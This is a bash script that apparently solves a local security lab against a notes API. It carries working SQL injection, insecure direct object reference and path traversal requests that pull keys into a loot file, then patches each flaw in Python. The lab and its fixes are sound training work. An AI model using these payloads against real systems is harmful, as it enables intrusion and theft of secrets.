#!/usr/bin/env bash
# Works through the lab the way its guide suggests. For scripts/test-labs; never shipped to a machine.
set -euo pipefail
cd ~/notes-api
service=http://127.0.0.1:5000

token=$(curl -sS -d '{"name":"ada","password":"lovelace"}' $service/api/login | sed 's/.*: "\(.*\)".*/\1/')
ask() { curl -sS --path-as-is -H "Authorization: Bearer $token" "$@"; }
{
  ask -G --data-urlencode "search=%' UNION SELECT 1, name, value FROM settings --" $service/api/notes | grep -o 'pay-key[a-z0-9-]*'
  ask $service/api/notes/2 | grep -o 'code-[a-z0-9-]*'
  ask $service/api/attachments/../config/service.ini | grep -o 'sign-key[a-z0-9-]*'
} >>~/loot.txt

python3 - <<'FIX'
import pathlib

def change(path, old, new):
    text = pathlib.Path(path).read_text()
    assert old in text, old
    pathlib.Path(path).write_text(text.replace(old, new))

change(
    "store.py",
    """f" WHERE owner = {user['id']} AND title || ' ' || text LIKE '%{text}%'"
            " ORDER BY id DESC"
""",
    """" WHERE owner = ? AND title || ' ' || text LIKE ?"
            " ORDER BY id DESC",
            (user["id"], f"%{text}%"),
""",
)
change("store.py", "def find_note(note_id):", "def find_note(user, note_id):")
change("store.py", 'WHERE id = ?", (note_id,)', 'WHERE id = ? AND owner = ?", (note_id, user["id"])')
change("app.py", "store.find_note(int(note_id))", "store.find_note(user, int(note_id))")
change(
    "attachments.py",
    "    path = os.path.join(FOLDER, name)\n",
    "    path = os.path.realpath(os.path.join(FOLDER, name))\n"
    "    if os.path.commonpath([path, os.path.realpath(FOLDER)]) != os.path.realpath(FOLDER):\n"
    "        return None\n",
)
FIX
./restart
